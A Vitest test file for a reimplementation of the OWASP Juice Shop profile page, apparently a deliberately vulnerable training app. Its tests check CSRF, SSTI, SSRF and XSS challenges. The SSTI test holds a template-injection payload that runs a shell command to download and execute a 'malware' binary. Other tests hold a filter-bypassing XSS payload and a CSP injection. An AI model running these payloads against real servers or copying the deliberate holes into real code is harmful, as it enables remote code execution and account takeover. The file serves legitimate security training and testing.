import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { startTestShop, type TestShop } from '../../test-support/test-shop.js'
import { SERVER_SIDE_KEY } from './username-template.js'

let t: TestShop
let token: string
beforeEach(async () => {
  t = await startTestShop()
  token = await t.login('jim@juice-sh.op', 'ncc-1701')
})
afterEach(async () => {
  await t.close()
})

const cookie = (): Record<string, string> => ({ Cookie: `token=${token}` })
const post = (url: string, fields: Record<string, string>, headers: Record<string, string> = {}) =>
  t.request(url, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...cookie(), ...headers },
    body: new URLSearchParams(fields).toString(),
  })
const setUsername = (username: string, headers: Record<string, string> = {}) =>
  post('/profile', { username }, headers)
const profile = () => t.request('/profile', { headers: cookie() })
const solved = async (key: string): Promise<boolean> => (await t.challenge(key)).solved

describe('GET /profile', () => {
  it('changes the username from a JSON body too, as the reference does', async () => {
    const response = await t.request('/profile', {
      method: 'POST',
      redirect: 'manual',
      headers: { ...cookie(), 'Content-Type': 'application/json' },
      body: JSON.stringify({ username: 'JsonJim' }),
    })
    expect(response.status).toBe(302)
    expect(await (await profile()).text()).toContain('JsonJim')
  })

  it('refuses visitors without a session cookie', async () => {
    const response = await t.request('/profile')
    expect(response.status).toBe(500)
    expect(await response.text()).toContain('Error: Blocked illegal activity')
  })

  it('shows the email, the forms and a CSP naming the profile image', async () => {
    const response = await profile()
    expect(response.status).toBe(200)
    expect(response.headers.get('content-security-policy')).toBe(
      "img-src 'self' assets/public/images/uploads/default.svg; script-src 'self' 'unsafe-eval'",
    )
    const page = await response.text()
    expect(page).toContain('id="email" type="email" name="email" value="jim@juice-sh.op"')
    expect(page).toContain('action="/profile/image/file"')
    expect(page).toContain('name="imageUrl"')
  })
})

describe('POST /profile', () => {
  it('changes the username from a multipart form and renews the cookie', async () => {
    const body = new FormData()
    body.set('username', 'Jimbo')
    const response = await t.request('/profile', {
      method: 'POST',
      redirect: 'manual',
      headers: cookie(),
      body,
    })
    expect(response.status).toBe(302)
    expect(response.headers.get('location')).toBe('/profile')
    expect(response.headers.get('set-cookie')).toMatch(/^token=/)
    expect(await (await profile()).text()).toContain('Jimbo')
  })

  it('refuses visitors without a session cookie', async () => {
    const response = await t.request('/profile', {
      method: 'POST',
      body: new URLSearchParams({ username: 'x' }),
    })
    expect(response.status).toBe(500)
    expect(await response.text()).toContain('Error: Blocked illegal activity')
  })

  it('evaluates a #{…} username as a template expression and shows undefined symbols raw', async () => {
    await setUsername('#{7*7}')
    expect(await (await profile()).text()).toContain('>49<')
    await setUsername('#{not_a_defined_symbol}')
    expect(await (await profile()).text()).toContain('not_a_defined_symbol')
  })
})

describe('csrfChallenge', () => {
  it('is solved by a username change posted from htmledit.squarefree.com', async () => {
    const response = await setUsername('CSRF', { Origin: 'http://htmledit.squarefree.com' })
    expect(response.status).toBe(302)
    expect(await solved('csrfChallenge')).toBe(true)
  })

  it('is not solved from other origins or without a change', async () => {
    await setUsername('CSRF', { Origin: 'http://attacker.com' })
    await setUsername('CSRF', { Origin: 'http://htmledit.squarefree.com' })
    expect(await solved('csrfChallenge')).toBe(false)
  })
})

describe('sstiChallenge', () => {
  it('is solved when the injected template downloads and starts the juicy malware', async () => {
    const malware = `${t.url}/ftp/quarantine/juicy_malware_linux_amd_64.url`
    const command = `wget -O malware ${malware} && chmod +x malware && ./malware`
    await setUsername(`#{global.process.mainModule.require('child_process').exec('${command}')}`)
    expect((await profile()).status).toBe(200)
    expect(await solved('sstiChallenge')).toBe(true)
  })

  it('is solved by the offline equivalent: a template, then the confirmation call', async () => {
    await setUsername('#{1+1}')
    await profile()
    const confirmation = await t.request(`/solve/challenges/server-side?key=${SERVER_SIDE_KEY}`)
    expect(confirmation.status).toBe(204)
    expect(await solved('sstiChallenge')).toBe(true)
  })

  it('is not solved by the confirmation call alone or by a plain username', async () => {
    await setUsername('plain #{')
    await profile()
    const confirmation = await t.request(`/solve/challenges/server-side?key=${SERVER_SIDE_KEY}`)
    expect(confirmation.status).toBe(200)
    expect(await confirmation.text()).toContain('<html')
    expect(await solved('sstiChallenge')).toBe(false)
  })
})

describe('ssrfChallenge', () => {
  it('is solved by an image URL that makes the shop call its internal endpoint', async () => {
    const imageUrl = `${t.url}/solve/challenges/server-side?key=${SERVER_SIDE_KEY}`
    const response = await post('/profile/image/url', { imageUrl })
    expect(response.status).toBe(302)
    expect(response.headers.get('location')).toMatch(/\/profile$/)
    expect(await solved('ssrfChallenge')).toBe(true)
  })

  it('is not solved by an ordinary image URL', async () => {
    await post('/profile/image/url', { imageUrl: `${t.url}/assets/public/images/padding/1px.png` })
    expect(await solved('ssrfChallenge')).toBe(false)
    const file = path.join(t.shop.files.uploads, '2.png')
    expect(existsSync(file)).toBe(true)
    expect(readFileSync(file).subarray(1, 4).toString()).toBe('PNG')
  })
})

describe('usernameXssChallenge', () => {
  const injectedCsp = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"

  it('is solved by a CSP injected through the image URL and a filtered script username', async () => {
    await post('/profile/image/url', { imageUrl: injectedCsp })
    await setUsername('<<a|ascript>alert(`xss`)</script>')
    const response = await profile()
    expect(response.headers.get('content-security-policy')).toBe(
      `img-src 'self' ${injectedCsp}; script-src 'self' 'unsafe-eval'`,
    )
    expect(await response.text()).toContain('<script>alert(`xss`)</script>')
    expect(await solved('usernameXssChallenge')).toBe(true)
  })

  it('is not solved by the script username alone', async () => {
    await setUsername('<<a|ascript>alert(`xss`)</script>')
    await profile()
    expect(await solved('usernameXssChallenge')).toBe(false)
  })
})
